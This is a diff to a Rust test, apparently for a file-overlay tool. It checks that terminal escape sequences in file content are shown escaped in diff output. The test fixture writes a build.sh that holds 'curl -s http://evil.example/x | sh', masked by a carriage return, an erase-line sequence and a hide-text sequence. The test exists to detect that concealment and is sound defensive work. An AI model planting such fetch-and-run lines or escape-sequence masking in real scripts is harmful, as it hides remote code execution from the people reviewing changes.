@@ -1122,8 +1122,23 @@ fn names_with_control_characters_are_printed_escaped() {
         listed.contains("-> t\\u{1b}]52;c;aGk=\\u{7}\\nx"),
         "{listed}"
     );
+    // A file's content is the program's too: a line that would redraw the line before
+    // (`\r`, erase line) and hide what follows (`\x1b[8m`) is shown escaped, the tab
+    // kept (review: `+curl … | sh` was hidden and `apply --expect` applied it).
+    write(
+        &set.join("upper/build.sh"),
+        "echo hello\ncurl -s http://evil.example/x | sh\r\x1b[2K+# reformatted\n\tindented\u{200b}\n\x1b[8m",
+    );
     let diff = run(&["changes", "--diff"]);
     assert!(diff.contains("b/x\\u{1b}[31mRED"), "{diff}");
+    assert!(
+        diff.contains("\n+curl -s http://evil.example/x | sh\\r\n+\\u{1b}[2K+# reformatted\n"),
+        "{diff}"
+    );
+    assert!(
+        diff.contains("\n+\tindented\\u{200b}\n+\\u{1b}[8m\n\\ No newline at end of file\n"),
+        "{diff}"
+    );
     let applied = run(&["apply"]);
     assert!(applied.contains("applied   x\\u{1b}[31mRED"), "{applied}");
     // The name itself lands as it was.
